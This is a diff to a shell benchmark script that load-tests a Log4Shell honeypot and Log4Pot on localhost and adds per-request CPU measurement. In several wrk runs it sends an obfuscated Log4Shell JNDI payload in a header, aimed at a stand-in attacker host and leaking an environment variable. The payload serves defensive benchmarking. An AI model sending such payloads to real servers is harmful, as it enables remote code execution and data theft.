@@ -6,7 +6,9 @@
 #      request deobfuscated and logged)
 #   4. RSS holding 10,000 idle connections
 # and, when a Log4Pot checkout is given (LOG4POT=/path/to/Log4Pot), the same
-# wrk runs against it on the same core.
+# wrk runs against it on the same core.  Each wrk run reports wall-clock
+# requests/s and the CPU time the honeypot used per request (cpu_per_req.sh):
+# the second does not depend on other load on the machine.
 # Usage: bench/honeypot/run.sh [path/to/defuse]   (default build/defuse)
 # The honeypot is pinned to CPU 0 (taskset), wrk to CPU 1.
 set -euo pipefail
@@ -32,19 +34,20 @@ protocol http
 listen 127.0.0.1:$PORT
 CONF
 ulimit -n "$(ulimit -Hn)" 2>/dev/null || true
+: >"$T/hp.err"
 taskset -c 0 "$DEFUSE" honeypot -c "$T/hp.conf" 2>"$T/hp.err" &
 HP=$!
 PIDS+=($HP)
 for i in $(seq 100); do grep -q ready "$T/hp.err" && break; sleep 0.05; done
 grep -q ready "$T/hp.err" || { cat "$T/hp.err" >&2; exit 1; }
 echo "== defuse honeypot $("$DEFUSE" --version) on 127.0.0.1:$PORT (CPU 0), wrk on CPU 1, ${DUR}s each"
-echo "-- 1. keep-alive GET /, wrk -t1 -c32"
-taskset -c 1 wrk -t1 -c32 -d"${DUR}s" "http://127.0.0.1:$PORT/" | grep -E "Requests/sec|Latency|requests in"
+echo "-- 1. keep-alive GET /, wrk -t1 -c32 (every request logged)"
+bench/honeypot/cpu_per_req.sh "$HP" "http://127.0.0.1:$PORT/" "$DUR"
 echo "-- 2. one request per connection (Connection: close), wrk -t1 -c32"
-taskset -c 1 wrk -t1 -c32 -d"${DUR}s" -H "Connection: close" "http://127.0.0.1:$PORT/" | grep -E "Requests/sec|requests in|Socket errors" || true
+bench/honeypot/cpu_per_req.sh "$HP" "http://127.0.0.1:$PORT/" "$DUR" -H "Connection: close"
 echo "-- 3. keep-alive, obfuscated payload in a header (deobfuscated + logged each time)"
-taskset -c 1 wrk -t1 -c32 -d"${DUR}s" -H 'X-Api-Version: ${${lower:j}${::-n}di:ldap://${env:USER}.attacker.test/Basic/Command/Base64/aWQ=}' \
-    "http://127.0.0.1:$PORT/api" | grep -E "Requests/sec|requests in"
+bench/honeypot/cpu_per_req.sh "$HP" "http://127.0.0.1:$PORT/api" "$DUR" \
+    -H 'X-Api-Version: ${${lower:j}${::-n}di:ldap://${env:USER}.attacker.test/Basic/Command/Base64/aWQ=}'
 ev=$(wc -l <"$T/events.jsonl")
 det=$(grep -c '"kind":"jndi"' "$T/events.jsonl" || true)
 echo "   events logged so far: $ev ($det with a jndi finding)"
@@ -53,18 +56,20 @@ taskset -c 1 python3 bench/honeypot/idle_conns.py "$PORT" 10000 "$HP"
 kill -TERM "$HP"; wait "$HP" || true
 echo "   $(grep stopped: "$T/hp.err")"
 
-if [ -n "${LOG4POT:-}" ] && [ -f "$LOG4POT/log4pot.py" ]; then
+# Log4Pot (github.com/thomaspatzke/Log4Pot, Python, standard library only
+# without its optional payloader/cloud features), run from a checkout.
+if [ -n "${LOG4POT:-}" ] && [ -f "$LOG4POT/log4pot-server.py" ]; then
     read -r LP < <(python3 tests/e2e/honeypot/peers.py freeports 1)
-    (cd "$T" && taskset -c 0 python3 "$LOG4POT/log4pot.py" --port "$LP" --log "$T/log4pot.log" >/dev/null 2>&1) &
+    (cd "$LOG4POT" && exec taskset -c 0 python3 log4pot-server.py --port "$LP" --log "$T/log4pot.log" >"$T/log4pot.out" 2>&1) &
     L4=$!
     PIDS+=($L4)
     for i in $(seq 100); do curl -s -o /dev/null "http://127.0.0.1:$LP/" && break; sleep 0.1; done
     echo "== Log4Pot ($LOG4POT) on 127.0.0.1:$LP (CPU 0)"
     echo "-- 1. keep-alive GET /, wrk -t1 -c32"
-    taskset -c 1 wrk -t1 -c32 -d"${DUR}s" "http://127.0.0.1:$LP/" | grep -E "Requests/sec|requests in|Socket errors" || true
+    bench/honeypot/cpu_per_req.sh "$L4" "http://127.0.0.1:$LP/" "$DUR"
     echo "-- 3. payload in a header"
-    taskset -c 1 wrk -t1 -c32 -d"${DUR}s" -H 'X-Api-Version: ${${lower:j}${::-n}di:ldap://${env:USER}.attacker.test/Basic/Command/Base64/aWQ=}' \
-        "http://127.0.0.1:$LP/api" | grep -E "Requests/sec|requests in|Socket errors" || true
-    echo "-- 4. 2,000 idle connections (Log4Pot uses a thread per connection)"
+    bench/honeypot/cpu_per_req.sh "$L4" "http://127.0.0.1:$LP/api" "$DUR" \
+        -H 'X-Api-Version: ${${lower:j}${::-n}di:ldap://${env:USER}.attacker.test/Basic/Command/Base64/aWQ=}'
+    echo "-- 4. 2,000 idle connections (a thread per connection)"
     taskset -c 1 python3 bench/honeypot/idle_conns.py "$LP" 2000 "$L4" || true
 fi
